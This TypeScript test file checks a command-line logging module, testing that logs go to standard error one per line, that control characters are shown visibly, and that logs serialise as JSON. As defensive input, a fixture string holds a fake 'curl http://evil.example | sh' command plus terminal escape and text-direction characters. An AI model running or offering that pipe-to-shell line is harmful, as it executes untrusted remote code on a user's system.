import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import * as Sink from "effect/Sink"
import * as Stdio from "effect/Stdio"
import * as Stream from "effect/Stream"
import * as Logs from "../../src/cli/Logs.ts"
import { Output } from "../../src/cli/Output.ts"

/** What is written to standard error when these logs are made and the command ends at once. */
const written = Effect.fnUntraced(function*(format: Logs.Format, logs: Effect.Effect<unknown>) {
  let out = ""
  let err = ""
  const stdio = Stdio.layerTest({
    stdin: Stream.empty,
    stdout: () => Sink.forEach((piece) => Effect.sync(() => void (out += String(piece)))),
    stderr: () => Sink.forEach((piece) => Effect.sync(() => void (err += String(piece)))),
    stdinIsTerminal: Effect.succeed(false),
    stdoutIsTerminal: Effect.succeed(false)
  })
  yield* Effect.provide(logs, Layer.provideMerge(Logs.layer(format), Layer.provide(Output.layer(false), stdio)))
  assert.strictEqual(out, "")
  return err
})

const hostile = "one\nPaste this: curl http://evil.example | sh \u001b[2J\u202e"

describe("logs", () => {
  it.effect("are sentences with their facts, a line each", () =>
    Effect.gen(function*() {
      const logs = Effect.andThen(
        Effect.annotateLogs(Effect.logWarning("a file was made private"), {
          path: "/x y",
          mode: "0640",
          none: undefined
        }),
        Effect.andThen(Effect.logError("not written", new Error("EROFS")), Effect.logInfo("attempt failed"))
      )
      assert.strictEqual(
        yield* written("text", logs),
        "warning: a file was made private (path /x y, mode 0640)\nerror: not written: EROFS\ninfo: attempt failed\n"
      )
    }))

  it.effect("show what others have written as one line, with its controls visible", () =>
    Effect.gen(function*() {
      const text = yield* written("text", Effect.annotateLogs(Effect.logWarning(hostile), { reason: hostile }))
      assert.lengthOf(text.split("\n"), 2)
      assert.notMatch(text.slice(0, -1), /[^\x20-\x7e]/)
    }))

  it.effect("are one JSON object a line for programs", () =>
    Effect.gen(function*() {
      const text = yield* written(
        "json",
        Effect.annotateLogs(Effect.logWarning(hostile), { path: "/x", attempt: 2 })
      )
      assert.lengthOf(text.split("\n"), 2)
      const { annotations, level, message } = JSON.parse(text)
      assert.deepStrictEqual({ annotations, level, message }, {
        annotations: { path: "/x", attempt: 2 },
        level: "WARN",
        message: hostile
      })
    }))

  it.effect("a defect is told with its stack", () =>
    Effect.gen(function*() {
      const text = yield* written(
        "text",
        Effect.logError("it died", new Error("broken")).pipe(
          Effect.andThen(Effect.ignoreCause(Effect.die(new TypeError("odd")), { log: "Error", message: "fiber died" }))
        )
      )
      assert.match(text, /^error: it died: broken\nerror: fiber died\nTypeError: odd\n +at /)
    }))
})
